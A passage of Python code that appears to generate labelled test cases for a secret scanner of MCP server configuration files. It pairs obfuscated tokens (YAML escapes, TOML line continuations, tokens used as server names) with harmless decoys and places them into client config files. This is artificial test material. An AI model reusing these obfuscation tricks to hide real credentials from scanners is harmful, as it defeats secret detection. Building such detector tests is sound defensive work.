        return [R("slack-escaped", spec, ["SEC-001", "SEC-006"], "high", "YAML-escaped Slack token", SHAPE,
                  secrets=[tok, body]),
                D("slack-escaped-ref", stdio("npx", ["-y", "@modelcontextprotocol/server-slack@2025.4.25"],
                                             {"SLACK_TEAM_ID": Raw('"T0\\x31234567"', "T01234567")}),
                  "YAML-escaped team id", SHAPE)]

    def toml_continuation(t, rng, c):
        if c.fmt != "toml":
            return None
        tok = t.github()
        cut = rng.randrange(12, 26)
        a, b = tok[:cut], tok[cut:]
        raw = Raw('"""\n' + a + '\\\n    ' + b + '"""', tok)
        spec = stdio("npx", ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
                     {"GITHUB_PERSONAL_ACCESS_TOKEN": raw})
        return [R("github-split", spec, ["SEC-001", "SEC-006"], "high", "token split by a TOML line continuation",
                  SHAPE, secrets=[tok, a, b]),
                D("github-split-doc", stdio("npx", ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
                                            {"GITHUB_HOST": Raw('"""\nhttps://github.\\\n    acme.com"""',
                                                                "https://github.acme.com")}),
                  "harmless value split by a continuation", SHAPE)]

    def token_as_name(t, rng, c):
        tok = rng.choice([t.github, t.anthropic, t.slack_bot])()
        spec = stdio("npx", ["-y", "@acme/notes-mcp@1.0.2"])
        return [R(tok, spec, ["SEC-006", "SEC-001"], "high", "token used as the server name", SHAPE,
                  secrets=[tok]),
                D("ghp-notes", stdio("npx", ["-y", "@acme/notes-mcp@1.0.2"]), "a server name that is not a token",
                  SHAPE)]

    return [url_in_command, escaped_json, escaped_yaml, toml_continuation, token_as_name]


ALL_CASES = (pinned_cases() + runtime_cases() + arg_secret_cases() + secret_cases() + tls_cases()
             + baseline_cases() + shape_cases())


# ------------------------------------------------------------------------------- placement

def client_doc(machine, project, client, rng, name=None):
    """The document holding client's servers (created with its baseline content)."""
    if client.per_server_file:
        fname = name if len(name) < 32 else "notes-%d" % (len(machine.docs) % 1000)  # not a token-named file
        path = os.path.join(project.path, ".continue", "mcpServers", "%s.yaml" % fname)
        doc = machine.struct(path, "project", "yaml", 0o644,
                             {"name": name.replace("-", " ").title() + " MCP server", "version": "0.0.1",
                              "schema": "v1", "mcpServers": []})
        return doc
    path = client.path(machine, project)
    scope = {"local-entry": "user"}.get(client.scope, client.scope)
    mode = machine.mode_for(client.family, scope, rng)
    style = {}
    if client.fmt == "jsonc":
        style = {"trailing_commas": rng.random() < 0.4, "indent": rng.choice([2, 4, "\t"])}
    elif client.fmt == "json":
        style = {"indent": rng.choice([2, 2, 4])}
    elif client.fmt == "yaml":
        style = {"quote": rng.choice(["auto", "auto", "double"])}
    doc = machine.docs.get(path)
    if doc is None:
        doc = machine.struct(path, scope, client.fmt, mode, C.baseline(machine, client, machine.tokens, rng), style)
    return doc


def place_server(machine, project, client, name, spec, rng):
    spec = dict(spec)
    doc = client_doc(machine, project, client, rng, name)
    container = client.container(machine, project) if callable(client.container) else client.container
    spec["name"] = name
    entry = C.render(client, spec, rng)
    holder = doc.node(container)
    if isinstance(holder, list):
        holder.append(entry)
        return doc, container + (len(holder) - 1,)
    n, i = name, 2
    while n in holder:
        n = "%s-%d" % (name, i)
        i += 1
    if client.dialect == "goose":
        entry["name"] = n
    holder[n] = entry
    return doc, container + (n,)


def place_case(machine, project, client, case, rng):
    entries = case(machine.tokens, rng, client)
    if not entries:
        return 0
    for role, name, spec, lab in entries:
        doc, path = place_server(machine, project, client, name, spec, rng)
        if role == "risk":
            doc.risk(path, lab["rules"], lab["min"], lab["category"], "%s (%s)" % (lab["note"], client.id),
                     lab["also_ok"])
            for s in lab["secrets"]:
                doc.secret(s)
        else:
            doc.decoy(path, lab["category"], "%s (%s)" % (lab["note"], client.id), lab["max"], lab["except"])
    return 1
